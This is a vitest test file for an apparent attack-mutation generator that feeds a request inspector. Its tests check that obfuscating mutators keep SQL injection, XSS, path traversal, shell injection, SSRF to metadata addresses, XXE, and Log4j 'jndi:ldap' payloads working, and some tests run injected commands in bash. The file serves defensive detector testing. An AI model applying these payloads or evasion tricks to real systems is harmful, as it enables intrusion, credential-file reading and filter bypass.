import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, posix } from 'node:path'
import { createContext, runInContext } from 'node:vm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import {
  generateAttacks,
  MAX_MUTATED,
  mutate,
  mutateOnce,
  mutatorsOf,
  REQUEST_MUTATORS,
  seededRandom,
  setValue,
  type AttackClass,
  type Setting,
} from '../../src/corpus/index.js'
import { Inspector } from '../../src/inspect/index.js'
import { CLASSES } from '../../src/student/index.js'

const ATTACK_CLASSES = CLASSES.filter((name): name is AttackClass => name !== 'benign')
const SEEDS = Array.from({ length: 25 }, (_, i) => i)

/** What a mutator makes of a text with each seed, without what it left as it was. */
function variants(kind: AttackClass, name: string, text: string, seeds = SEEDS): string[] {
  const mutator = mutatorsOf(kind).find((one) => one.name === name)
  if (mutator === undefined) throw new Error(`no mutator ${name} of ${kind}`)
  const made = new Set(seeds.map((seed) => mutator.step(text, seededRandom(seed))))
  made.delete(text)
  return [...made]
}

describe('a mutation', () => {
  it('leaves harmless, empty and very long texts as they are', () => {
    const random = seededRandom(1)
    expect(mutate("O'Brien", 'benign', random)).toBe("O'Brien")
    expect(mutate('', 'sqli', random)).toBe('')
    const long = "' or 1=1".repeat(2000)
    expect(mutate(long, 'sqli', random)).toBe(long)
  })

  it('is the same for the same seed, and another for another', () => {
    const text = "' or 1=1 union select name from users-- "
    const made = SEEDS.map((seed) => mutate(text, 'sqli', seededRandom(seed)))
    expect(SEEDS.map((seed) => mutate(text, 'sqli', seededRandom(seed)))).toEqual(made)
    expect(new Set(made).size).toBeGreaterThan(20)
  })

  it.each(ATTACK_CLASSES)('of generated %s changes most of them and stays within bounds', (kind) => {
    const attacks = [...generateAttacks(seededRandom(5), 200, { classes: [kind] })]
    const made = attacks.map(({ text }, i) => mutate(text, kind, seededRandom(i)))
    const changed = made.filter((text, i) => text !== attacks[i]!.text)
    expect(changed.length).toBeGreaterThan(140)
    for (const text of made) expect(text.length).toBeLessThanOrEqual(MAX_MUTATED)
  })

  it.each(ATTACK_CLASSES)(
    'of %s has mutators of several kinds, every one of which applies to something',
    (kind) => {
      const texts = [...generateAttacks(seededRandom(6), 600, { classes: [kind], context: 0 })].map(
        ({ text }) => text,
      )
      const kinds = new Set(mutatorsOf(kind).map((mutator) => mutator.kind))
      expect(kinds.size).toBeGreaterThanOrEqual(6)
      const random = seededRandom(1)
      const idle = mutatorsOf(kind).filter(({ step }) => texts.every((text) => step(text, random) === text))
      // These want forms that the grammars seldom write; their own tests have rows for them.
      expect(idle.length).toBeLessThanOrEqual(3)
    },
  )

  it('says which mutator it was, and that nothing may follow an encoding', () => {
    const made = SEEDS.map((seed) => mutateOnce("' or 1=1-- ", 'sqli', seededRandom(seed)))
    for (const { text, mutator, last } of made) {
      expect(text).not.toBe("' or 1=1-- ")
      expect(last).toBe(/^(?:encodings|look-alikes)\//.test(mutator!.name))
    }
    expect(new Set(made.map(({ last }) => last)).size).toBe(2)
  })
})

describe('look-alikes and encodings', () => {
  const TEXT = "' or 1=1 union select name from users;|&()<script>"
  it.each(['look-alikes/fullwidthSigns', 'look-alikes/mathLetters'])('%s are undone by NFKC', (name) => {
    for (const text of variants('sqli', name, TEXT)) expect(text.normalize('NFKC')).toBe(TEXT)
  })

  it.each(['encodings/percentSigns', 'encodings/percentSome'])(
    '%s are undone by percent-decoding',
    (name) => {
      for (const text of variants('xss', name, '<svg onload=alert(1)>é')) {
        expect(decodeURIComponent(text)).toBe('<svg onload=alert(1)>é')
      }
    },
  )

  it('unicode escapes are undone by a JSON parser', () => {
    for (const text of variants('sqli', 'encodings/unicodeEscapes', TEXT))
      expect(JSON.parse(`"${text}"`)).toBe(TEXT)
  })

  it('dots of a path are undone by NFKC', () => {
    for (const text of variants('traversal', 'look-alikes/lookAlikes', '../../etc/passwd')) {
      expect(text.normalize('NFKC')).toBe('../../etc/passwd')
    }
  })
})

/** Tokens of SQL without comments and white space, in lower case; what MySQL executes of comments stays. */
function sqlTokens(text: string): string[] {
  const bare = text
    .replace(/\/\*!(?:\d{5} ?)?([^*]*)\*\//g, ' $1 ')
    .replace(/\/\*[^]*?(?:\*\/|$)/g, ' ')
    .replace(/(?:--(?=[\s-])|#)[^\n]*(?:\n|$)/g, ' ')
  return bare.toLowerCase().match(/[\w.@]+|[^\s\w\u00a0]/g) ?? []
}

describe('mutators of SQL', () => {
  const TEXT = "1' union select user, pass from users where id = 7 and a <> 'b' order by 2 -- "
  it.each([
    'case/keywords',
    'comments/blanks',
    'comments/text',
    'comments/ending',
    'comments/endingWords',
    'comments/executable',
    'spaces/blanks',
    'spaces/signs',
    'padding/beforeComment',
    'padding/longEnding',
  ])('%s leave the same tokens', (name) => {
    const before = name === 'comments/text' ? TEXT.replace('union select', 'union/*x*/select') : TEXT
    const made = variants('sqli', name, before)
    expect(made.length).toBeGreaterThan(0)
    for (const text of made)
      expect(sqlTokens(text).join(' ').replace(/ ?;$/, ''), text).toBe(sqlTokens(TEXT).join(' '))
  })

  it('leave the same tokens one after the other, too', () => {
    const names = [
      'spaces/blanks',
      'comments/endingWords',
      'comments/blanks',
      'spaces/signs',
      'spaces/blanks',
    ]
    for (const seed of SEEDS) {
      const random = seededRandom(seed)
      const steps = names.map((name) => mutatorsOf('sqli').find((one) => one.name === name)!.step)
      const text = steps.reduce((changed, step) => step(changed, random), TEXT)
      expect(sqlTokens(text), text).toEqual(sqlTokens(TEXT))
    }
  })

  it('write conditions that a database holds for true', async () => {
    const { DuckDBInstance } = await import('@duckdb/node-api')
    const connection = await (await DuckDBInstance.create(':memory:')).connect()
    const conditions = [
      'alternatives/tautology',
      'alternatives/invariant',
      'alternatives/parentheses',
      'alternatives/renumber',
    ]
      .flatMap((name) => variants('sqli', name, '7=7'))
      .filter((text) => !/&&/.test(text))
    expect(conditions.length).toBeGreaterThan(30)
    for (const condition of conditions) {
      const result = await connection.runAndReadAll(`select (${condition}) as held`)
      expect(result.getRows(), condition).toEqual([[true]])
    }
    connection.closeSync()
  })

  it.each([
    [
      'alternatives/functions',
      'union select version()',
      /union(?: all| distinct| {2})?\s?select (?:version\(\)|@@|sqlite_version)/i,
    ],
    ['alternatives/delays', "' or sleep(5)-- ", /sleep\(|benchmark\(|receive_message\(/i],
    ['alternatives/numbers', ' or 1=12', /^ or [^a-w]*1|select|0x|\+/],
    ['alternatives/joints', "7'-0-'", /^7'(?:[-+*/%^|&<>!=]+| div | xor )0(?:[-+*/%^|&<>!=]+| div | xor )'$/],
    ['alternatives/operands', "7'-0-'", /^7'-[^']*(?:0|@[a-z]+|pi\(\)|true|null)[.e0)]*-'$/],
    ['spaces/signs', "7'-0-'", /^7'[^']*-[^']*0[^']*-[^']*'$/],
    ['alternatives/quotedNames', 'select a from users', /from ?[`"]users[`"]/],
    ['alternatives/operators', "' or 1 and 2=2", /\|\||xor|or|OR|&&|like/],
    [
      'strings/built',
      "where name='admin'",
      /concat|\|\||\+|0x61646d696e|char\(97|chr\(97|N'|x'|reverse\('nimda'\)|unhex|' '/,
    ],
    ['strings/quotes', "' or 'a'='a", /^" or "a"="a$/],
    ['strings/closing', "' or 1=1", /^'\)+ or 1=1$/],
    ['surroundings/afterValue', "' or 1=1", /^[\w ]+' or 1=1$/],
    ['padding/afterWords', "' or 1=1", /^[a-z ]{30,}' or 1=1$/],
  ])('%s change %j', (name, text, made) => {
    const found = variants('sqli', name, text)
    expect(found.length).toBeGreaterThan(0)
    for (const one of found) expect(one).toMatch(made)
  })

  it.each(["7'-- ", "7'/*x*/", '7-0-1', '2020-01-02', "it''s"])(
    'take no sign of %j for one that joins operands',
    (text) => {
      for (const name of ['alternatives/joints', 'alternatives/operands', 'spaces/signs'])
        expect(variants('sqli', name, text)).toEqual([])
    },
  )

  it('put nothing before a payload that does not close what stands there', () => {
    expect(variants('sqli', 'surroundings/afterValue', '1 or 1=1')).toEqual([])
    expect(variants('sqli', 'comments/endingWords', '1 or 1=1')).toEqual([])
  })
})

/** A page's globals, with calls counted. */
function calls(code: string): number {
  let count = 0
  const call = (): void => void count++
  const page: Record<string, unknown> = {
    console: { log: call },
    document: { domain: '', cookie: '' },
    location: '',
    origin: '',
    localStorage: {},
  }
  for (const name of ['alert', 'confirm', 'prompt', 'print']) page[name] = call
  for (const name of ['window', 'self', 'top', 'parent', 'frames']) page[name] = page
  const context = createContext({ ...page, atob, decodeURIComponent })
  for (const name of ['window', 'self', 'top', 'parent', 'frames'])
    runInContext(`this.${name}=globalThis`, context)
  const later = (text: string): void => void runInContext(text, context)
  Object.assign(context, { setTimeout: later, setInterval: later })
  runInContext(code, context, { timeout: 1000 })
  return count
}

/** Whether HTML holds something that runs: a handler, a script, a `javascript:` address. Written for these tests alone. */
function runs(html: string): boolean {
  const decoded = html
    .replace(/<!--[^]*?-->/g, '')
    .replace(/&(?:Tab|NewLine);/g, '')
    .replace(/&#x0*([0-9a-f]+);/gi, (_all, code: string) => String.fromCharCode(parseInt(code, 16)))
    .replace(/&#0*(\d+);/g, (_all, code: string) => String.fromCharCode(Number(code)))
  const handler = /<[a-z][^<>]*?[\s/"']on[a-z]{3,40}[\s]*=/i.test(decoded)
  return handler || /<script[\s/>]/i.test(decoded) || /javascript:/i.test(decoded.replace(/[\t\r\n]/g, ''))
}

describe('mutators of scripts and markup', () => {
  it.each([
    'comments/script',
    'spaces/script',
    'strings/computedName',
    'strings/evaluated',
    'strings/escapedName',
    'alternatives/otherCall',
    'alternatives/otherArgument',
    'alternatives/statement',
  ])('%s keep a script calling', (name) => {
    const made = variants('xss', name, 'alert(1)')
    expect(made.length).toBeGreaterThan(3)
    for (const code of made) expect(calls(code), code).toBe(1)
  })

  it('are told from what no longer runs', () => {
    expect(calls('0')).toBe(0)
    expect(['<b>tea</b>', 'x onload=1', '<p title="on=">'].filter(runs)).toEqual([])
  })

  const HTML = '<img src=x onerror=alert(1)>'
  it.each(
    mutatorsOf('xss')
      .filter(({ last }) => !last)
      .map(({ name }) => name),
  )('%s keep markup running', (name) => {
    const texts = [
      HTML,
      '<script>alert(1)</script>',
      '<a href="javascript:alert(1)">',
      '<svg><p onclick=alert(1)>',
    ]
    const made = texts.flatMap((text) => variants('xss', name, text))
    expect(made.length).toBeGreaterThan(0)
    for (const text of made.filter((one) => !/^<scr<script/i.test(one))) expect(runs(text), text).toBe(true)
  })
})

/** Where a file system finds a path from a folder, after filters and servers have read it as the mutators mean it. */
const resolved = (text: string): string =>
  posix.resolve(
    '/srv/app/files',
    text
      .replace(/[%\0].*$/, '')
      .replaceAll('\\', '/')
      .replace(/\.{4}\/{1,2}/g, '../')
      .replaceAll('..;/', '../')
      .replace(/\/proc\/(?:self|1)\/root(?=\/)/, ''),
  )

describe('mutators of paths', () => {
  it.each([
    'paths/depth',
    'paths/upSteps',
    'paths/mixedUps',
    'paths/detour',
    'paths/selfSteps',
    'paths/otherName',
    'paths/foldersBefore',
    'surroundings/afterName',
    'padding/longBefore',
    'alternatives/nullEnd',
  ])('%s lead to the same file', (name) => {
    const made = variants('traversal', name, '../../../../../etc/passwd')
    expect(made.length).toBeGreaterThan(1)
    for (const text of made) expect(resolved(text), text).toBe('/etc/passwd')
  })

  it.each([
    ['case/windows', '../windows/win.ini', /^\.\.\/windows\/win\.ini$/i],
    ['paths/backslashes', '../../windows/win.ini', /^\.\.\\\.\.\\windows\\win\.ini$/],
    ['alternatives/scheme', '/etc/passwd', /\/etc\/passwd$/],
    ['alternatives/otherFile', '../etc/passwd', /^\.\.\/(?:etc|proc|root|var|home)\//],
  ])('%s change %j', (name, text, made) => {
    const found = variants('traversal', name, text)
    expect(found.length).toBeGreaterThan(0)
    for (const one of found) expect(one).toMatch(made)
  })

  it('leave folders that only look like it alone', () => {
    expect(variants('traversal', 'alternatives/otherFile', '/opt/app/etc/passwd')).toEqual([])
    expect(variants('traversal', 'paths/backslashes', 'file:///c:/windows/win.ini')).toEqual([])
  })
})

const installed = (command: string): boolean => {
  try {
    execFileSync('bash', ['-c', `command -v ${command}`], { stdio: 'ignore' })
    return true
  } catch {
    return false
  }
}

describe.runIf(installed('bash'))('mutators of commands', () => {
  let dir: string
  beforeAll(() => void (dir = mkdtempSync(join(tmpdir(), 'stillgate-shell-'))))
  afterAll(() => rmSync(dir, { recursive: true, force: true }))
  const missing = ['rev', 'xxd', 'base64'].filter((tool) => !installed(tool))

  /** Runs a value in the places of a command line that it may be written for, until one has made the file. */
  function works(value: string): boolean {
    const file = join(dir, 'made')
    rmSync(file, { force: true })
    const places = ['true x@', "true 'x@'", 'true "x@"', 'false x@', "false 'x@'", 'false "x@"']
    return places.some((place) => {
      try {
        // What runs beside the shell may end after it.
        const wait = /<\(|&$/.test(value) ? '\nsleep 0.1' : ''
        const options = { cwd: dir, stdio: 'ignore', timeout: 5000 } as const
        execFileSync('bash', ['-c', place.replace('@', () => value) + wait], options)
      } catch {
        // A place for which the value is not written is a syntax error there.
      }
      return existsSync(file)
    })
  }

  it('are told from what runs nothing', () => {
    expect([works(';touch made'), works('touch made'), works(';tou ch made')]).toEqual([true, false, false])
  })

  const FEW = [1, 2, 3]
  it.each([
    'comments/comment',
    'spaces/blanks',
    'strings/splitName',
    'strings/quotedName',
    'strings/builtName',
    'strings/encodedCommand',
    'alternatives/separator',
    'alternatives/wrap',
    'alternatives/idleBefore',
    'alternatives/idleAfter',
    'paths/fullPath',
    'surroundings/afterValue',
    'padding/afterWords',
    'padding/longComment',
  ])(
    '%s run the same command',
    (name) => {
      const made = variants('rce', name, ';touch made', FEW)
      const possible = made.filter((text) => !missing.some((tool) => text.includes(tool)))
      expect(possible.length).toBeGreaterThan(0)
      for (const text of possible) expect(works(text), text).toBe(true)
    },
    60_000,
  )

  it.each([
    ['spaces/redirected', ';cat /etc/passwd'],
    ['spaces/braces', ';cat /etc/passwd'],
    ['paths/wildcards', ';cat /etc/passwd'],
    ['paths/detours', ';cat /etc/passwd'],
  ])('%s read the same file as %j', (name, text) => {
    const made = variants('rce', name, text, FEW)
    expect(made.length).toBeGreaterThan(0)
    for (const one of made) {
      const output = execFileSync('bash', ['-c', `true x${one}; true`], {
        encoding: 'utf8',
        stdio: ['ignore', 'pipe', 'ignore'],
      })
      expect(output, one).toContain('root:')
    }
  })

  it.each([
    ['case/windows', '&powershell -enc x', /^&powershell -enc x$/i],
    ['strings/carets', '&ipconfig', /^&(?=.+\^)i[pconfig^]+$/],
    ['alternatives/otherReader', ';cat /etc/passwd', /^;.+\/etc\/passwd$/],
    ['alternatives/otherShow', ';id', /^;[a-z]/],
    ['alternatives/delays', ';sleep 5', /sleep|ping|timeout|read/],
  ])('%s change %j', (name, text, made) => {
    const found = variants('rce', name, text)
    expect(found.length).toBeGreaterThan(0)
    for (const one of found) expect(one).toMatch(made)
  })

  it('leave commands of Windows to those of Windows', () => {
    expect(variants('rce', 'strings/splitName', '&echo %USERNAME%')).toEqual([])
  })
})

/** The host that the URL standard reads. */
const hostOf = (text: string): string => new URL(text).hostname

describe('mutators of addresses', () => {
  it.each([
    'case/scheme',
    'spaces/tabs',
    'escapes/host',
    'alternatives/slashes',
    'paths/detour',
    'look-alikes/host',
    'surroundings/userPart',
    'surroundings/query',
    'surroundings/fragment',
    'padding/longQuery',
  ])('%s lead to the same host', (name) => {
    const made = ['http://127.0.0.1/admin', 'http://localhost/admin'].flatMap((text) =>
      variants('ssrf', name, text),
    )
    expect(made.length).toBeGreaterThan(0)
    for (const text of made) expect(['127.0.0.1', 'localhost'], text).toContain(hostOf(text))
  })

  it('write loopback and metadata addresses in other ways', () => {
    const loops = variants('ssrf', 'alternatives/loopback', 'http://127.0.0.1:80/')
    expect(loops.length).toBeGreaterThan(8)
    for (const text of loops)
      expect(hostOf(text)).toMatch(
        /^(?:127(?:\.\d+){3}|0\.0\.0\.0|localhost\.?|\[::1?\]|\[::ffff:7f00:1\]|.*\.nip\.io|localtest\.me)$/,
      )
    for (const text of variants('ssrf', 'alternatives/metadata', 'http://169.254.169.254/')) {
      expect(hostOf(text)).toMatch(
        /^(?:169\.254\.169\.254(?:\.nip\.io)?|\[::ffff:a9fe:a9fe\]|\[fd00:ec2::254\])$/,
      )
    }
    expect(
      variants('ssrf', 'alternatives/port', 'http://[::1]:8080/').every((text) => hostOf(text) === '[::1]'),
    ).toBe(true)
  })
})

describe('mutators of headers', () => {
  it.each([
    'case/header',
    'spaces/header',
    'alternatives/lineBreak',
    'surroundings/junkHeader',
    'surroundings/afterValue',
    'surroundings/afterAddress',
    'padding/afterWords',
    'padding/longHeaders',
  ])('%s set the same header', (name) => {
    const made = variants('crlf', name, '\r\nSet-Cookie: a=b')
    expect(made.length).toBeGreaterThan(0)
    for (const text of made) {
      const lines = text.split(/\r\n|\r|\n/).slice(1)
      expect(
        lines.some((line) => /^set-cookie:[ \t]*a=b$/i.test(line)),
        text,
      ).toBe(true)
    }
  })

  it.each([
    ['encodings/encodedBreak', /^(?!.*[\r\n]).+Set-Cookie: a=b$/],
    ['look-alikes/cutBreak', /^(?!.*[\r\n]).+Set-Cookie: a=b$/],
    ['alternatives/headerName', /^\r\n[\w-]+: \w+=\w+$/],
  ])('%s change a line break or a name', (name, made) => {
    for (const text of variants('crlf', name, '\r\nSet-Cookie: a=b')) expect(text).toMatch(made)
  })
})

describe('mutators of documents with entities', () => {
  const TEXT = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
  const ENTITY =
    /<!DOCTYPE\s+(\w+)\s*\[[^]*<!ENTITY\s+(\w+)\s+(?:SYSTEM|PUBLIC\s+"[^"]*")\s+["'][\w-]+:[^"']+["']>\s*\]>\s*<\1>[^]*&\2;[^]*<\/\1>$/
  it.each(
    mutatorsOf('xxe')
      .filter(({ last }) => !last)
      .map(({ name }) => name),
  )('%s keep the entity declared and used', (name) => {
    const made = variants('xxe', name, TEXT)
    expect(made.length).toBeGreaterThan(0)
    for (const text of made) {
      expect(text).toMatch(ENTITY)
      expect(text.split('<!--').length).toBe(text.split('-->').length)
      // A declaration stands first or not at all (XML 1.0 §2.8).
      expect(text.lastIndexOf('<?xml ')).toBeLessThanOrEqual(0)
    }
  })
})

describe('mutators of queries', () => {
  const TEXT = '{"user":"admin","pass":{"$ne":null}}'
  it.each(['spaces/json', 'escapes/json'])('%s are the same document', (name) => {
    const made = variants('query', name, TEXT)
    expect(made.length).toBeGreaterThan(3)
    for (const text of made) expect(JSON.parse(text)).toEqual(JSON.parse(TEXT))
  })

  it('add keys beside the others', () => {
    for (const text of variants('query', 'surroundings/junkKeys', TEXT)) {
      expect(JSON.parse(text)).toMatchObject(JSON.parse(TEXT) as object)
    }
  })

  it('keep a GraphQL document within its JSON', () => {
    const made = variants('query', 'spaces/graphql', '{"query":"{__schema{types{name}}}"}')
    expect(made.length).toBeGreaterThan(3)
    for (const text of made) {
      const { query } = JSON.parse(text) as { query: string }
      expect(query.replace(/#[^\n]*|[\s,]/g, '')).toBe('{__schema{types{name}}}')
    }
  })

  it('keep the brackets of a filter as they open and close', () => {
    const depth = (text: string): number => text.split('(').length - text.split(')').length
    const text = '*)(uid=*))(|(uid=*'
    for (const name of [
      'case/filter',
      'alternatives/filterName',
      'surroundings/filterJunk',
      'surroundings/afterValue',
      'padding/afterWords',
    ]) {
      const made = variants('query', name, text)
      expect(made.length, name).toBeGreaterThan(0)
      for (const one of made) expect(depth(one), one).toBe(depth(text))
    }
  })

  it.each([
    ['alternatives/operator', TEXT, /"\$(?:gt|gte|lt|lte)":null/],
    ['alternatives/values', TEXT, /"\$ne":/],
    ['alternatives/xpathTruth', "' or '1'='1", /^' or .*='[a-z0-9]+$/],
    ['alternatives/graphqlAlias', '{__schema{types{name}}}', /^\{\w+:__schema\{/],
    ['spaces/xpath', "' or 1=1", /^'\s+or\s+1=1$/],
  ])('%s change %j', (name, text, made) => {
    const found = variants('query', name, text)
    expect(found.length).toBeGreaterThan(0)
    for (const one of found) expect(one).toMatch(made)
  })
})

/** What Log4j makes of look-ups that give one letter or a default. */
function lookedUp(text: string): string {
  const once = text
    .replace(/\$\{(?:lower|upper):(.)\}/gi, (_all, char: string) => char.toLowerCase())
    .replace(/\$\{(?:::-|(?:env|sys):\w+:-)(.)\}/g, '$1')
    .replace(/\$\{date:'(.)'\}/g, '$1')
  return once === text ? text : lookedUp(once)
}

describe('mutators of code', () => {
  it('spell a look-up in letters that Log4j puts together', () => {
    const made = variants('code', 'strings/jndi', '${jndi:ldap://a.example/x}')
    expect(made.length).toBeGreaterThan(10)
    for (const text of made) expect(lookedUp(text)).toBe('${jndi:ldap://a.example/x}')
  })

  it.each([
    ['case/php', "<?php system('id');", /^<\?php system\('id'\);$/i],
    ['comments/comments', "<?php system('id');", /^<\?php system\/\*[a-z ]*\*\/\('id'\);$/],
    ['spaces/inner', '{{7*7}}', /^\{\{\s*7\*7\s*\}\}$/],
    ['escapes/ognl', '%{#a=@java.lang.Runtime@getRuntime()}', /\\u00(?:23|40|2e|3d)/],
    ['strings/attributes', "{{''.__class__.__mro__}}", /attr\(|\[|_/],
    ['strings/builtString', "{{lipsum('id')}}", /'i'\+'d'|\\x69\\x64/],
    ['strings/phpNames', "<?php system('id');", /\('id'\);$/],
    ['alternatives/products', '${7*7}', /^\$\{\d+\*\d+\}$/],
    ['alternatives/otherCommand', "exec('id')", /^exec\('.+'\)$/],
    ['alternatives/phpCalls', "<?php system('id');", /^<\?php \w+\('id'\);$/],
    ['alternatives/openTags', '<?php phpinfo();', /^<\?(?:php)?\s/i],
    ['alternatives/runtime', 'T(java.lang.Runtime).getRuntime()', /java\.lang\.Runtime/],
    ['alternatives/expressionBefore', '${7*7}', /^\$\{[^}]+\}\$\{7\*7\}$/],
    ['surroundings/afterValue', '{{7*7}}', /^[\w ]+\{\{7\*7\}\}$/],
    ['padding/inProse', '{{7*7}}', /^[a-z ]+ \{\{7\*7\}\} [a-z ]+$/],
  ])('%s change %j', (name, text, made) => {
    const found = variants('code', name, text)
    expect(found.length).toBeGreaterThan(0)
    for (const one of found) expect(one).toMatch(made)
  })
})

describe('mutators of requests', () => {
  const ATTACK = "x' union select 1,2,3 from users-- "
  /** All decoded fields of a request, as text. */
  const fields = ({ head, body }: Setting): string[] => {
    const { bytes, count, starts, lengths } = new Inspector().inspect(head, body)
    return Array.from({ length: count }, (_, w) =>
      Buffer.from(bytes.subarray(starts[w]!, starts[w]! + lengths[w]!)).toString(),
    )
  }
  const settings = (kinds: readonly string[]): Setting[] =>
    Array.from({ length: 300 }, (_, seed) => setValue(ATTACK, seededRandom(seed))).filter(({ probe }) =>
      kinds.includes(probe.kind),
    )

  it.each(REQUEST_MUTATORS)(
    '$name leave the attack whole to a server that joins duplicates',
    ({ change }) => {
      let changed = 0
      for (const [seed, plain] of settings(['query-value', 'form-value']).entries()) {
        const setting = change(plain, seededRandom(seed))
        if (setting === plain) continue
        changed++
        expect(
          fields(setting).some((text) => text.includes(ATTACK.trim())),
          setting.head.target,
        ).toBe(true)
        const length = setting.head.rawHeaders.findIndex((name) => name.toLowerCase() === 'content-length')
        if (setting.body) expect(setting.head.rawHeaders[length + 1]).toBe(String(setting.body.length))
      }
      expect(changed).toBeGreaterThan(20)
    },
  )

  it('leave other places alone', () => {
    for (const plain of settings(['header-value', 'json-value', 'cookie-value'])) {
      for (const { change } of REQUEST_MUTATORS) expect(change(plain, seededRandom(1))).toBe(plain)
    }
  })
})
